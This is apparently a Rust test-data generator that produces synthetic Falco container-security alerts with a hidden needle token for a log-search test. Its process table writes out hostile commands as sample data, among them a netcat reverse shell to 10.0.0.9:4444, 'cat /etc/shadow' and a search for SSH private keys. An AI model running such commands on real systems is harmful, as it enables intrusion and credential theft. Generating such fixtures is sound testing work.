//! Alerts as Falco writes them, about 1.1 kB each, spread over some hours: 20 rules, 16
//! containers, values that differ on every line, and one needle.

/// In one line only.
pub(super) const NEEDLE: &str = "zq7d31f09ab45c6e82";

const RULES: [(&str, &str, usize, &str, Subject); 20] = {
    use Subject::{Connection, Exec, File};
    [
        (
            "Terminal shell in container",
            "Notice",
            90,
            "A shell with a terminal was started in a container",
            Exec,
        ),
        (
            "Read sensitive file untrusted",
            "Warning",
            120,
            "A sensitive file was opened by a program that is not trusted",
            File,
        ),
        (
            "Read sensitive file after startup",
            "Warning",
            40,
            "A sensitive file was opened long after startup",
            File,
        ),
        (
            "Directory traversal file read",
            "Warning",
            15,
            "A monitored file was read by way of dots in its path",
            File,
        ),
        ("Run shell untrusted", "Notice", 70, "A shell was started by a program that is not trusted", Exec),
        ("System user interactive", "Informational", 25, "A system user ran a command by hand", Exec),
        (
            "Contact API server from container",
            "Notice",
            150,
            "A container connected to the API server of the cluster",
            Connection,
        ),
        (
            "Netcat with a shell in container",
            "Warning",
            8,
            "Netcat runs in a container in a way that allows remote commands",
            Exec,
        ),
        (
            "Search private keys or passwords",
            "Warning",
            20,
            "Something looked for private keys or passwords",
            Exec,
        ),
        ("Clear log activities", "Warning", 60, "A log file was emptied", File),
        ("Remove bulk data from disk", "Warning", 12, "Much data was removed from a disk at once", File),
        (
            "Create symlink over sensitive files",
            "Warning",
            10,
            "A symbolic link was made over a sensitive file",
            Exec,
        ),
        ("Packet socket created in container", "Notice", 35, "A packet socket was made in a container", File),
        (
            "Redirect stdout to network connection",
            "Notice",
            30,
            "Standard output was tied to a network connection",
            Connection,
        ),
        (
            "Kernel module injection detected",
            "Critical",
            3,
            "A kernel module was loaded from a container",
            Exec,
        ),
        ("Ptrace attached to process", "Warning", 9, "A process attached to another one", Exec),
        (
            "Drop and execute new binary in container",
            "Critical",
            45,
            "A binary that is not in the image was run",
            Exec,
        ),
        ("Fileless execution", "Critical", 5, "A program was run from memory only", Exec),
        (
            "Package management process in container",
            "Error",
            110,
            "A package manager was started in a container",
            Exec,
        ),
        ("Write below etc", "Error", 143, "A file below /etc was opened for writing", File),
    ]
};
const PRIORITIES: [&str; 6] = ["Critical", "Error", "Warning", "Notice", "Informational", "Debug"];
const CONTAINERS: [(&str, &str, &str, usize); 16] = [
    ("nzbget", "lscr.io/linuxserver/nzbget", "v24.3", 12),
    ("plex", "plexinc/pms-docker", "1.41.0", 9),
    ("sonarr", "lscr.io/linuxserver/sonarr", "4.0.9", 7),
    ("radarr", "lscr.io/linuxserver/radarr", "5.11.0", 7),
    ("postgres", "postgres", "16.4-alpine", 8),
    ("redis", "redis", "7.4-alpine", 5),
    ("nginx", "nginx", "1.27.1", 9),
    ("traefik", "traefik", "v3.1.2", 6),
    ("grafana", "grafana/grafana", "11.2.0", 4),
    ("prometheus", "prom/prometheus", "v2.54.1", 4),
    ("homeassistant", "ghcr.io/home-assistant/home-assistant", "2024.9", 8),
    ("nextcloud", "nextcloud", "29-apache", 7),
    ("vaultwarden", "vaultwarden/server", "1.32.0", 3),
    ("gitea", "gitea/gitea", "1.22.2", 4),
    ("jellyfin", "jellyfin/jellyfin", "10.9.10", 5),
    ("adguard", "adguard/adguardhome", "v0.107.52", 2),
];
const PROCESSES: [(&str, &str, &str, usize); 16] = [
    ("bash", "/bin/bash", "bash -l", 14),
    ("sh", "/bin/sh", "sh -c /healthcheck.sh", 18),
    ("apk", "/sbin/apk", "apk add --no-cache curl", 6),
    ("apt-get", "/usr/bin/apt-get", "apt-get update -qq", 5),
    ("curl", "/usr/bin/curl", "curl -fsSL http://127.0.0.1:8080/health", 10),
    ("python3", "/usr/bin/python3", "python3 /app/main.py --reload", 9),
    ("cat", "/bin/cat", "cat /etc/shadow", 8),
    ("nginx", "/usr/sbin/nginx", "nginx -g daemon off;", 6),
    ("node", "/usr/local/bin/node", "node /srv/index.js", 7),
    ("s6-supervise", "/command/s6-supervise", "s6-supervise svc-nzb", 4),
    ("postgres", "/usr/local/bin/postgres", "postgres -D /var/lib/postgresql/data", 4),
    ("redis-server", "/usr/local/bin/redis-server", "redis-server *:6379", 4),
    ("find", "/usr/bin/find", "find / -name id_rsa", 2),
    ("nc", "/usr/bin/nc", "nc -e /bin/sh 10.0.0.9 4444", 1),
    ("tar", "/bin/tar", "tar czf /tmp/b.tgz /var/www", 1),
    ("sshd", "/usr/sbin/sshd", "sshd -D -e", 1),
];
const FILES: [&str; 10] = [
    "/etc/shadow",
    "/etc/sudoers",
    "/etc/pam.d/common-auth",
    "/etc/passwd",
    "/var/log/auth.log",
    "/var/log/nginx/access.log",
    "/etc/nginx/nginx.conf",
    "/root/.ssh/authorized_keys",
    "/etc/crontab",
    "/etc/ld.so.preload",
];
const USERS: [(&str, u32); 6] =
    [("root", 0), ("abc", 911), ("www-data", 33), ("postgres", 70), ("node", 1000), ("nobody", 65534)];

#[derive(Clone, Copy)]
enum Subject {
    File,
    Connection,
    Exec,
}

/// A line with what its stream is named by.
pub(super) struct Line {
    pub(super) timestamp_ns: i64,
    pub(super) priority: String,
    pub(super) rule: String,
    pub(super) text: String,
}

/// Makes the same lines for the same numbers.
pub(super) struct Generator {
    state: u64,
    next: u64,
    count: u64,
    start_ns: i64,
    span_ns: i64,
}

impl Generator {
    pub(super) fn new(count: u64, start_ns: i64, span_ns: i64) -> Self {
        Generator { state: 0x9e37_79b9_7f4a_7c15, next: 0, count, start_ns, span_ns }
    }

    fn below(&mut self, bound: usize) -> usize {
        // xorshift64*: any generator does that is the same everywhere.
        self.state ^= self.state >> 12;
        self.state ^= self.state << 25;
        self.state ^= self.state >> 27;
        let number = self.state.wrapping_mul(0x2545_f491_4f6c_dd1d) >> 33;
        (number % bound.max(1) as u64) as usize
    }

    fn weighted<T: Copy>(&mut self, items: &[T], weight: impl Fn(&T) -> usize) -> Option<T> {
        let mut left = self.below(items.iter().map(&weight).sum());
        items.iter().copied().find(|item| {
            let own = weight(item);
            let is_it = left < own;
            left = left.wrapping_sub(own);
            is_it
        })
    }

    fn pick<T: Copy>(&mut self, items: &[T]) -> Option<T> {
        items.get(self.below(items.len())).copied()
    }

    fn line(&mut self) -> Option<Line> {
        let step = self.span_ns / (self.count as i64 + 1);
        let timestamp_ns = self.start_ns + self.next as i64 * step + self.below(step.max(1) as usize) as i64;
        let is_needle = self.next == self.count * 618 / 1000;
        self.next += 1;
        let (rule, own, _, message, subject) = self.weighted(&RULES, |rule| rule.2)?;
        let priority = if self.below(100) < 15 { self.pick(&PRIORITIES)? } else { own };
        let (name, image, tag, weight) = self.weighted(&CONTAINERS, |container| container.3)?;
        let id = format!(
            "{:012x}",
            (image.len() as u64 * 31 + weight as u64).wrapping_mul(0x9e37_79b9_7f4a_7c15) >> 16
        );
        let (process, path, command, _) = self.weighted(&PROCESSES, |process| process.3)?;
        let parent = self.pick(&PROCESSES)?.0;
        let (least, other) = (self.below(6), self.below(6));
        let (user, uid) = *USERS.get(least.min(other))?;
        let pid = 2 + self.below(4_194_302);
        let mut command = command.to_owned();
        if self.below(100) < 35 {
            command.push_str(&format!(" #{}", self.below(100_000)));
        }
        if is_needle {
            command.push_str(&format!(" --token={NEEDLE}"));
        }
        let (kind, fields, text) = self.subject(subject, pid)?;
        let tty = if rule.starts_with("Terminal") { 34816 } else { 0 };
        let iso = iso(timestamp_ns);
        let clock = iso.get(11..29)?;
        let text = format!(
            r#"{{"hostname":"node-1","output":"{clock}: {priority} {message} | {text}evt_type={kind} user={user} user_uid={uid} user_loginuid=-1 process={process} proc_exepath={path} parent={parent} command={command} terminal={tty} container_id={id} container_name={name} container_image_repository={image} container_image_tag={tag} k8s_pod_name=<NA> k8s_ns_name=<NA>","output_fields":{{"container.id":"{id}","container.image.repository":"{image}","container.image.tag":"{tag}","container.name":"{name}",{fields}"evt.time":{timestamp_ns},"evt.type":"{kind}","k8s.ns.name":null,"k8s.pod.name":null,"proc.cmdline":"{command}","proc.exepath":"{path}","proc.name":"{process}","proc.pid":{pid},"proc.pname":"{parent}","proc.tty":{tty},"user.loginuid":-1,"user.name":"{user}","user.uid":{uid}}},"priority":"{priority}","rule":"{rule}","source":"syscall","tags":["container","maturity_stable","mitre_execution","T1059"],"time":"{iso}"}}"#
        );
        Some(Line { timestamp_ns, priority: priority.to_owned(), rule: rule.to_owned(), text })
    }

    /// What the event was about: its type, JSON fields, text.
    fn subject(&mut self, subject: Subject, pid: usize) -> Option<(&'static str, String, String)> {
        Some(match subject {
            Subject::Connection => {
                let (port, peer) = (32_768 + self.below(28_000), self.pick(&[443, 6443, 4444, 8080])?);
                let octets = [self.below(4), self.below(256), self.below(2), self.below(256)];
                let [a, b, c, d] = octets;
                let connection = format!("10.0.{a}.{b}:{port}->10.96.{c}.{d}:{peer}");
                let fields = format!(r#""fd.lport":{port},"fd.name":"{connection}","fd.rport":{peer},"#);
                let text = format!("connection={connection} lport={port} rport={peer} ");
                (self.pick(&["connect", "sendto"])?, fields, text)
            }
            Subject::File => {
                let file = if self.below(10) < 3 {
                    format!("/proc/{pid}/environ")
                } else {
                    self.pick(&FILES)?.to_owned()
                };
                let kind = self.pick(&["open", "openat", "openat2"])?;
                (kind, format!(r#""fd.name":"{file}","#), format!("file={file} "))
            }
            Subject::Exec => {
                let flags = self.pick(&["EXE_WRITABLE|EXE_LOWER_LAYER", "EXE_WRITABLE"])?;
                let kind = self.pick(&["execve", "execveat"])?;
                (kind, format!(r#""evt.arg.flags":"{flags}","#), String::new())
            }
        })
    }
}

impl Iterator for Generator {
    type Item = Line;

    fn next(&mut self) -> Option<Line> {
        if self.next < self.count { self.line() } else { None }
    }
}

/// `2026-01-01T00:00:00.000000000Z`, after Howard Hinnant's `civil_from_days`.
pub(super) fn iso(timestamp_ns: i64) -> String {
    let (seconds, nanos) = (timestamp_ns.div_euclid(1_000_000_000), timestamp_ns.rem_euclid(1_000_000_000));
    let shifted = seconds.div_euclid(86_400) + 719_468;
    let era = shifted.div_euclid(146_097);
    let of_era = shifted.rem_euclid(146_097);
    let year_of_era = (of_era - of_era / 1460 + of_era / 36_524 - of_era / 146_096) / 365;
    let of_year = of_era - (365 * year_of_era + year_of_era / 4 - year_of_era / 100);
    let month = (5 * of_year + 2) / 153;
    let day = of_year - (153 * month + 2) / 5 + 1;
    let month = if month < 10 { month + 3 } else { month - 9 };
    let year = year_of_era + era * 400 + i64::from(month <= 2);
    let of_day = seconds.rem_euclid(86_400);
    let (hour, minute, second) = (of_day / 3600, of_day / 60 % 60, of_day % 60);
    format!("{year:04}-{month:02}-{day:02}T{hour:02}:{minute:02}:{second:02}.{nanos:09}Z")
}
